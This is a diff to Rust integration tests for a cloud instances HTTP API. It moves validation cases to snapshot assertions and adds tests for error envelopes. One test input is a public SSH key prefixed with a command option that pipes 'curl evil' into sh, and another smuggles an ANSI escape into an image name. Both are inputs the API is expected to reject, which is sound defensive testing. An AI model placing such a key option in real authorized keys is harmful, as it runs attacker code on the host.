@@ -1,6 +1,6 @@
 //! The instances API over HTTP against the real actix app and a real Postgres.
 
-use crate::common::{count, TestApp, TestDb};
+use crate::common::{count, exchange, TestApp, TestDb};
 use cloudbrain::auth::Scope;
 use serde_json::{json, Value};
 
@@ -62,105 +62,36 @@ async fn create_records_the_instance_and_its_job_at_once() {
 async fn bad_requests_get_clear_errors_naming_the_field() {
     let (db, app, token) = setup().await;
     let long_image = "i".repeat(256);
-    let cases: Vec<(Value, u16, Option<&str>)> = vec![
-        (json!({"image": "ubuntu"}), 422, Some("provider")),
-        (
-            json!({"provider": "", "image": "ubuntu"}),
-            422,
-            Some("provider"),
-        ),
-        (json!({"provider": "fake"}), 422, Some("image")),
-        (
-            json!({"provider": "fake", "image": "  "}),
-            422,
-            Some("image"),
-        ),
-        (json!({"provider": "fake", "image": 7}), 422, Some("image")),
-        (
-            json!({"provider": "nowhere", "image": "ubuntu"}),
-            422,
-            Some("provider"),
-        ),
-        (
-            json!({"provider": "fake", "image": "ubuntu", "instance_type": "gpu"}),
-            422,
-            Some("instance_type"),
-        ),
-        (
-            json!({"provider": "fake", "image": long_image}),
-            422,
-            Some("image"),
-        ),
-        (
-            json!({"provider": "fake", "image": "ubuntu\u{1b}[31m"}),
-            422,
-            Some("image"),
-        ),
-        (
-            json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": "not a key"}),
-            422,
-            Some("public_ssh_key"),
-        ),
-        (
-            json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": format!("{ED25519}\n{ED25519}")}),
-            422,
-            Some("public_ssh_key"),
-        ),
-        (
-            json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": format!("command=\"curl evil|sh\" {ED25519}")}),
-            422,
-            Some("public_ssh_key"),
-        ),
-        (json!(["provider", "fake"]), 400, None),
+    let cases: Vec<Value> = vec![
+        json!({"image": "ubuntu"}),
+        json!({"provider": "", "image": "ubuntu"}),
+        json!({"provider": "fake"}),
+        json!({"provider": "fake", "image": "  "}),
+        json!({"provider": "fake", "image": 7}),
+        json!({"provider": "nowhere", "image": "ubuntu"}),
+        json!({"provider": "fake", "image": "ubuntu", "instance_type": "gpu"}),
+        json!({"provider": "fake", "image": long_image}),
+        json!({"provider": "fake", "image": "ubuntu\u{1b}[31m"}),
+        json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": "not a key"}),
+        json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": format!("{ED25519}\n{ED25519}")}),
+        json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": format!("command=\"curl evil|sh\" {ED25519}")}),
+        json!(["provider", "fake"]),
     ];
-    for (body, status, field) in cases {
-        let response = app
-            .post("/instances", &token)
-            .json(&body)
-            .send()
-            .await
-            .unwrap();
-        assert_eq!(response.status().as_u16(), status, "{body}");
-        let error: Value = response.json().await.unwrap();
-        assert!(
-            error["errors"][0].as_str().is_some_and(|m| !m.is_empty()),
-            "{error}"
-        );
-        if let Some(field) = field {
-            assert_eq!(error["field"], field, "{body}: {error}");
-            assert!(
-                error["errors"][0].as_str().unwrap().contains(field),
-                "{error}"
-            );
-        }
+    let mut seen = String::new();
+    for body in cases {
+        let shown = body.to_string().replace(&long_image, "i × 256");
+        let asked = format!("POST /instances {shown}");
+        seen += &exchange(&asked, app.post("/instances", &token).json(&body)).await;
     }
-
-    let response = app
+    let truncated = app
         .post("/instances", &token)
         .header("content-type", "application/json")
-        .body("{\"provider\": ")
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(response.status(), 400);
-    let error: Value = response.json().await.unwrap();
-    assert!(
-        error["errors"][0].as_str().unwrap().contains("JSON"),
-        "{error}"
-    );
-
+        .body("{\"provider\": ");
+    seen += &exchange("POST /instances {\"provider\": ", truncated).await;
     let huge = json!({"provider": "fake", "image": "ubuntu", "padding": "x".repeat(70 * 1024)});
-    let response = app
-        .post("/instances", &token)
-        .json(&huge)
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(response.status(), 413);
-    assert_eq!(
-        response.json::<Value>().await.unwrap()["code"],
-        "payload_too_large"
-    );
+    let too_big = app.post("/instances", &token).json(&huge);
+    seen += &exchange("POST /instances (70 KiB)", too_big).await;
+    insta::assert_snapshot!(seen);
 
     let mut conn = db.conn().await;
     assert_eq!(
@@ -915,4 +846,59 @@ async fn a_provider_registered_before_offers_were_stored_gets_its_offer_on_first
     let offer: Value = serde_json::from_str(&offer.unwrap()).unwrap();
     assert_eq!(offer["instance_types"], json!(["standard", "premium"]));
     assert_eq!(offer["default_instance_type"], "standard");
+}
+
+#[tokio::test]
+async fn every_refusal_says_what_is_wrong_in_cloud_brains_envelope() {
+    let (_db, app, token) = setup().await;
+    let unknown = "00000000-0000-4000-8000-000000000000";
+    let body = json!({"provider": "fake", "image": "ubuntu"});
+    let mut seen = String::new();
+    seen += &exchange(
+        "GET /instances (no token)",
+        app.client.get(app.url("/instances")),
+    )
+    .await;
+    seen += &exchange(
+        "GET /instances (token 1-wrong)",
+        app.get("/instances", "1-00000000000000000000000000000000"),
+    )
+    .await;
+    let unknown = format!("/instances/{unknown}");
+    let refused_gets = [
+        unknown.as_str(),
+        "/instances/not-a-uuid",
+        "/instances?limit=0",
+        "/instances?state=stopped",
+        "/instances?cursor=x",
+    ];
+    for path in refused_gets {
+        seen += &exchange(&format!("GET {path}"), app.get(path, &token)).await;
+    }
+    seen += &exchange(
+        "PUT /instances",
+        app.client
+            .put(app.url("/instances"))
+            .header("Authorization", format!("token {token}")),
+    )
+    .await;
+    seen += &exchange(
+        "POST /instances (Content-Type: text/plain)",
+        app.post("/instances", &token)
+            .header("content-type", "text/plain")
+            .body(body.to_string()),
+    )
+    .await;
+    let keyed = |image: &str| {
+        app.post("/instances", &token)
+            .header("Idempotency-Key", "build-1")
+            .json(&json!({"provider": "fake", "image": image}))
+    };
+    keyed("ubuntu").send().await.unwrap();
+    seen += &exchange(
+        "POST /instances (Idempotency-Key build-1, another body)",
+        keyed("debian"),
+    )
+    .await;
+    insta::assert_snapshot!(seen);
 }
